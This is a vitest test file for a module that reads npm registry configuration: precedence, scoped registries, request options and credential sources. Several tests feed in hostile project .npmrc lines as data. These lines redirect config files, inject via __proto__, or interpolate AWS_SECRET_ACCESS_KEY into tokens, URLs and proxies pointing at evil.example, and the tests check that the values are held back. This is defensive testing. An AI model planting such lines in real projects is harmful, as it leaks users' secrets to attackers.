import { mkdir, mkdtemp, realpath, rm, writeFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { inspect } from "node:util";

import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";

import { readRegistryConfig, type RegistryConfig } from "./registry-config.ts";

const NPM_DEFAULT: string = createRequire(import.meta.url)("@npmcli/config/lib/definitions/index.js").defaults.registry;

let directory: string;
let home: string;

let environment: Record<string, string>;

beforeEach(async () => {
  const root = await realpath(await mkdtemp(join(tmpdir(), "slipway-config-")));
  [directory, home] = [join(root, "project"), join(root, "home")];
  await mkdir(directory);
  await mkdir(home);
  await writeFile(join(directory, "package.json"), "{}");
  environment = { HOME: home, npm_config_globalconfig: join(root, "global") };
});

afterEach(async () => {
  await rm(join(directory, ".."), { recursive: true });
});

function read(): Promise<RegistryConfig> {
  return readRegistryConfig({ directory, environment });
}

function project(...lines: readonly string[]): Promise<void> {
  return writeFile(join(directory, ".npmrc"), lines.join("\n"));
}

describe("registry", () => {
  it("is npm's own without any setting", async () => {
    const config = await read();
    expect(config.registry).toBe(NPM_DEFAULT);
    expect(config.registrySource).toStrictEqual({ from: "default", file: undefined, usual: NPM_DEFAULT });
    expect(config.registryFor("@scope/a")).toBe(NPM_DEFAULT);
    expect(config.tag).toBeUndefined();
  });

  it("comes from the strongest layer and ends with a slash", async () => {
    await writeFile(join(directory, "../global"), "registry=https://global.registry.example");
    expect((await read()).registry).toBe("https://global.registry.example/");
    await writeFile(join(home, ".npmrc"), "registry=https://user.registry.example/");
    expect((await read()).registry).toBe("https://user.registry.example/");
    expect((await read()).registrySource?.from).toBe("person");
    await project("registry=https://project.registry.example/npm");
    expect((await read()).registry).toBe("https://project.registry.example/npm/");
    expect((await read()).registrySource).toMatchObject({ from: "project", file: ".npmrc" });
    environment["npm_config_registry"] = "https://environment.registry.example//";
    expect((await read()).registry).toBe("https://environment.registry.example/");
    expect((await read()).registrySource?.from).toBe("environment");
  });

  it("is the project's where the project is the home", async () => {
    environment["HOME"] = directory;
    await project("registry=https://mirror.registry.example/");
    expect((await read()).registrySource).toMatchObject({ from: "project", file: ".npmrc" });
  });

  it("is npm's own where the setting is no address", async () => {
    await project("registry=nonsense");
    expect((await read()).registry).toBe(NPM_DEFAULT);
  });

  it.each([
    ["a", undefined, "https://registry.example/"],
    ["@scope/a", undefined, "https://scope.registry.example/"],
    ["@other/a", undefined, "https://registry.example/"],
    ["a", { registry: "https://own.registry.example" }, "https://own.registry.example/"],
    ["@scope/a", { registry: "https://own.registry.example" }, "https://scope.registry.example/"],
    ["@scope/a", { "@scope:registry": "https://own.registry.example" }, "https://own.registry.example/"],
    ["a", { registry: 1, access: "public" }, "https://registry.example/"],
    ["a", "nonsense", "https://registry.example/"],
  ])("of %s with %j is %s", async (name, publishConfig, expected) => {
    await project("registry=https://registry.example", "@scope:registry=https://scope.registry.example");
    const config = await read();
    expect(config.registryFor(name, publishConfig)).toBe(expected);
    expect(config.scopeRegistries).toEqual({ "@scope": "https://scope.registry.example/" });
  });
});

describe("where the files of the person are", () => {
  const EVIL = "//evil.example/:_authToken=x\n@evil:registry=https://evil.example/\nproxy=http://evil.example:8080\n";

  it.each([
    ["userconfig=evil/etc/npmrc"],
    ["globalconfig=evil/etc/npmrc"],
    ["prefix=evil"],
    ["${NOPE?}userconfig=evil/etc/npmrc"],
    ["[${NOPE?}__proto__]\nuserconfig=evil/etc/npmrc"],
  ])("no project says: %s", async (line) => {
    delete environment["npm_config_globalconfig"];
    environment["PREFIX"] = join(directory, "../none");
    await mkdir(join(directory, "evil/etc"), { recursive: true });
    await writeFile(join(directory, "evil/etc/npmrc"), EVIL);
    await project(line.replace("=evil", `=${directory}/evil`));
    const { fetchOptions, scopeRegistries, credentials } = await read();
    expect(inspect([fetchOptions, scopeRegistries, credentials], { depth: 9 })).not.toContain("evil.example");
  });

  it.each([
    ["the environment", "userconfig", async (place: string) => void (environment["NPM_CONFIG_USERCONFIG"] = place)],
    ["the environment", "globalconfig", async (place: string) => void (environment["npm_config_globalconfig"] = place)],
    ["the user", "globalconfig", async (place: string) => writeFile(join(home, ".npmrc"), `globalconfig=${place}\n`)],
    [
      "the user",
      "prefix",
      async (place: string) => writeFile(join(home, ".npmrc"), `prefix=${join(place, "../..")}\n`),
    ],
  ])("%s says with `%s`, whatever the project does", async (_, __, say) => {
    delete environment["npm_config_globalconfig"];
    await mkdir(join(directory, "../own/etc"), { recursive: true });
    await writeFile(join(directory, "../own/etc/npmrc"), "@own:registry=https://own.example/\n");
    await say(join(directory, "../own/etc/npmrc"));
    await project("userconfig=none", "globalconfig=none", "prefix=none");
    expect((await read()).scopeRegistries).toEqual({ "@own": "https://own.example/" });
  });
});

describe("options of requests", () => {
  it("hold what npm's libraries read, and nothing else", async () => {
    await writeFile(join(directory, "ca.pem"), "-----BEGIN CERTIFICATE-----\nx\n-----END CERTIFICATE-----\n");
    await project(
      "//registry.example/:_authToken=${NPM_TOKEN}",
      "proxy=http://proxy.example:8080",
      "fetch-retries=5",
      "fetch-timeout=1000",
      "strict-ssl=false",
      `cafile=${join(directory, "ca.pem")}`,
      "save-exact=true",
    );
    environment["NPM_TOKEN"] = "secret";
    expect((await read()).fetchOptions).toMatchObject({
      "//registry.example/:_authToken": "secret",
      proxy: "http://proxy.example:8080/",
      retry: { retries: 5 },
      timeout: 1000,
      strictSSL: false,
      ca: ["-----BEGIN CERTIFICATE-----\nx\n-----END CERTIFICATE-----"],
    });
    expect((await read()).fetchOptions).not.toHaveProperty("saveExact");
  });

  it.each([
    ["the project's file", (setting: string) => project(setting)],
    ["the user's file", (setting: string) => writeFile(join(home, ".npmrc"), setting)],
  ])("cannot be made of a certificate file that is a directory; %s is named, and no value", async (_, write) => {
    environment["npm_config_place"] = directory;
    await write("cafile=${npm_config_place}");
    const error: unknown = await read().catch((reason: unknown) => reason);
    expect(error).toMatchObject({
      code: "NPM_CONFIG_UNREADABLE",
      message: expect.stringMatching(/: `cafile` in `\S+\/\.npmrc` \(EISDIR\)$/),
    });
    expect(inspect(error)).not.toContain(`${directory}'`);
  });

  it("cannot be made of a variable that names a directory", async () => {
    environment["npm_config_cafile"] = directory;
    await expect(read()).rejects.toMatchObject({
      message: "npm's configuration cannot be read: the variable `npm_config_cafile` (EISDIR)",
    });
  });
});

describe("the files that count", () => {
  beforeEach(async () => {
    await project("//project.example/:_authToken=p", "registry=https://project.example/", "proxy=http://proxy.example");
    await writeFile(join(home, ".npmrc"), "//user.example/:_authToken=u\n@user:registry=https://user.example/\n");
    await writeFile(
      join(directory, "../global"),
      "//global.example/:_authToken=g\n@global:registry=https://global.example/\n",
    );
    await writeFile(
      join(directory, "../named"),
      "//named.example/:_authToken=n\n@named:registry=https://named.example/\n",
    );
  });

  const PLACES = ["project", "user", "global", "named"] as const;

  it.each([
    ["project", {}, ["project", "user", "global"]],
    ["trusted-project", {}, ["project", "user", "global"]],
    ["user", {}, ["user", "global"]],
    ["named", {}, []],
    ["named", { NPM_CONFIG_USERCONFIG: "../named" }, ["named"]],
    ["named", { npm_config_userconfig: "../named", npm_config_location: "project" }, ["named"]],
    ["user", { NPM_CONFIG_USERCONFIG: "../named" }, ["global", "named"]],
  ] as const)("%s with %j: %j", async (files, variables, expected) => {
    const named = Object.entries(variables).map(([name, value]) => [
      name,
      value.startsWith("..") ? join(directory, value) : value,
    ]);
    const config = await readRegistryConfig({
      directory,
      environment: { ...environment, ...Object.fromEntries(named) },
      files,
    });
    const found = PLACES.filter((place) => `//${place}.example/:_authToken` in config.fetchOptions);
    expect(found).toEqual(expected);
    expect(config.tokenSources).toHaveLength(expected.length);
    expect(config.registry === "https://project.example/").toBe(expected.some((place) => place === "project"));
    expect(config.exposures).toEqual(
      expected.some((place) => place === "project") ? [{ setting: "proxy", file: ".npmrc" }] : [],
    );
  });

  it("are none beside or above a directory that is handed over", async () => {
    const packed = join(directory, "packed");
    await mkdir(packed);
    await writeFile(join(packed, ".npmrc"), "registry=https://packed.example/");
    const config = await readRegistryConfig({ directory: packed, environment, files: "named" });
    expect(config.registry).toBe(NPM_DEFAULT);
    expect(config.fetchOptions).toHaveProperty("proxy", null);
  });
});

describe("variables in a project's file", () => {
  const SECRETS = { AWS_SECRET_ACCESS_KEY: "aws-secret", NPM_TOKEN: "npm-token", NODE_AUTH_TOKEN: "node-token" };

  beforeEach(() => {
    Object.assign(environment, SECRETS);
  });

  it.each<[string, string | undefined]>([
    ["//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}", "evil.example"],
    ["//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY?}", "evil.example"],
    ["//evil.example/:_password=x${AWS_SECRET_ACCESS_KEY}", "evil.example"],
    ["//evil.example/${AWS_SECRET_ACCESS_KEY}/:_authToken=x", "evil.example"],
    ["registry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/", "evil.example"],
    ["registry=https://${AWS_SECRET_ACCESS_KEY}.evil.example/", undefined],
    ["registry=https://user.example:${AWS_SECRET_ACCESS_KEY}@evil.example/", "evil.example"],
    ["registry=https://user.example@${AWS_SECRET_ACCESS_KEY}.evil.example/", undefined],
    ["@acme:registry=https://evil.example:8443/${AWS_SECRET_ACCESS_KEY}", "evil.example:8443"],
    ["https-proxy=http://me:${AWS_SECRET_ACCESS_KEY}@evil.example:8080", "evil.example:8080"],
    ["tag=${AWS_SECRET_ACCESS_KEY}", undefined],
    ["cert=${AWS_SECRET_ACCESS_KEY}", undefined],
    ["//user.example:8443/:_authToken=${AWS_SECRET_ACCESS_KEY}", "user.example:8443"],
  ])("%s goes nowhere", async (line, host) => {
    await writeFile(join(home, ".npmrc"), "//user.example/:_authToken=u\n");
    await project(line);
    const config = await read();
    expect(inspect(config, { depth: 9 })).not.toContain(SECRETS.AWS_SECRET_ACCESS_KEY);
    expect(config.heldBack).toMatchObject([{ variable: "AWS_SECRET_ACCESS_KEY", host }]);
  });

  it("npm's own credentials are no settings of npm's", async () => {
    environment["npm_config_//user.example/:_authToken"] = "user-token";
    environment["npm_config__authToken"] = "bare-token";
    await project(
      "//evil.example/:_authToken=${npm_config_//user.example/:_authToken}",
      "//evil.example/:_password=${npm_config__authToken}",
    );
    const { fetchOptions, heldBack } = await read();
    expect(Object.keys(fetchOptions).filter((key) => key.startsWith("//evil"))).toEqual([]);
    expect(heldBack).toHaveLength(2);
  });

  it.each([
    ["//evil.example/:_authToken=${NPM_TOKEN}", "//evil.example/:_authToken", "npm-token"],
    ["//evil.example/:_authToken=${NODE_AUTH_TOKEN}", "//evil.example/:_authToken", "node-token"],
    ["registry=${npm_config_mirror}", "registry", "https://mirror.example/"],
    ["//user.example/:_authToken=${AWS_SECRET_ACCESS_KEY}", "//user.example/:_authToken", "aws-secret"],
    ["//scope.example/npm/:_authToken=${AWS_SECRET_ACCESS_KEY}", "//scope.example/npm/:_authToken", "aws-secret"],
    [
      `//${new URL(NPM_DEFAULT).host}/:_authToken=\${AWS_SECRET_ACCESS_KEY}`,
      `//${new URL(NPM_DEFAULT).host}/:_authToken`,
      "aws-secret",
    ],
    ["//evil.example/:_authToken=${NOT_SET}", "//evil.example/:_authToken", "${NOT_SET}"],
  ])("%s is taken as npm does", async (line, key, expected) => {
    environment["npm_config_mirror"] = "https://mirror.example/";
    await writeFile(join(home, ".npmrc"), "//user.example/:_authToken=u\n@acme:registry=https://scope.example/npm/\n");
    await project(line);
    const config = await read();
    expect(config.heldBack).toEqual([]);
    expect(config.fetchOptions).toHaveProperty([key], expected);
  });

  it("are nobody's secret from whoever publishes their own repository", async () => {
    await project("//evil.example/:_authToken=${AWS_SECRET_ACCESS_KEY}");
    const config = await readRegistryConfig({ directory, environment, files: "trusted-project" });
    expect(config.fetchOptions).toHaveProperty(["//evil.example/:_authToken"], "aws-secret");
  });
});

function encode(text: string): string {
  return Buffer.from(text).toString("base64");
}

it("credentials are listed in every form that they are known by", async () => {
  await writeFile(
    join(home, ".npmrc"),
    [
      "//a.example/:_authToken=a-token",
      `//b.example/:_auth=${encode("me:b-password")}`,
      `//c.example/:_password=${encode("c-password")}`,
      "//c.example/:username=me",
      "proxy=http://me:d%2Fpassword@proxy.example:8080",
    ].join("\n"),
  );
  expect((await read()).credentials).toEqual([
    "a-token",
    encode("me:b-password"),
    "b-password",
    encode("c-password"),
    "c-password",
    "d%2Fpassword",
    "d/password",
  ]);
});

it.each(["strict-ssl=false", "proxy=http://proxy.example", "https-proxy=http://proxy.example"])(
  "%s lets others listen where it is the project's, and is a person's own matter elsewhere",
  async (line) => {
    await writeFile(join(home, ".npmrc"), line);
    expect((await read()).exposures).toEqual([]);
    await project(line);
    expect((await read()).exposures).toEqual([{ setting: line.split("=")[0], file: ".npmrc" }]);
  },
);

describe("settings for publishing", () => {
  it("are there when they are set", async () => {
    await project("tag=next", "access=public", "provenance=true", "provenance-file=x");
    expect(await read()).toMatchObject({ tag: "next", access: "public", provenance: true });
  });
});

describe("token sources", () => {
  it("tell place and key, never the value", async () => {
    await project(
      "//registry.example/:_authToken=${NODE_AUTH_TOKEN}",
      "//other.example/:_auth=c2VjcmV0OnNlY3JldA==",
      "//other.example/:username=me",
    );
    await writeFile(join(home, ".npmrc"), "_authToken=secret\n//user.example/:_password=${EMPTY}\n");
    environment["npm_config_//environment.example/:_authToken"] = "secret";
    environment["EMPTY"] = "";
    const { tokenSources } = await readRegistryConfig({ directory, base: join(directory, ".."), environment });
    expect(tokenSources).toEqual([
      { kind: "variable", name: "npm_config_//environment.example/:_authToken" },
      { kind: "npmrc", file: "project/.npmrc", key: "//registry.example/:_authToken", empty: true },
      { kind: "npmrc", file: "project/.npmrc", key: "//other.example/:_auth" },
      { kind: "npmrc", file: join(home, ".npmrc"), key: "_authToken" },
      { kind: "npmrc", file: join(home, ".npmrc"), key: "//user.example/:_password", empty: true },
    ]);
  });
});

describe("reading", () => {
  it("says nothing and changes nothing", async () => {
    await project("no-such-setting=1", "email=x", "before=2020-01-01", "min-release-age=3", "loglevel=nonsense");
    const streams = [vi.spyOn(process.stdout, "write"), vi.spyOn(process.stderr, "write")];
    const [before, passed] = [{ ...process.env }, { ...environment }];
    await read();
    const written = streams.flatMap((stream) => stream.mock.calls);
    vi.restoreAllMocks();
    expect(written).toEqual([]);
    expect(process.env).toEqual(before);
    expect(environment).toEqual(passed);
  });
});
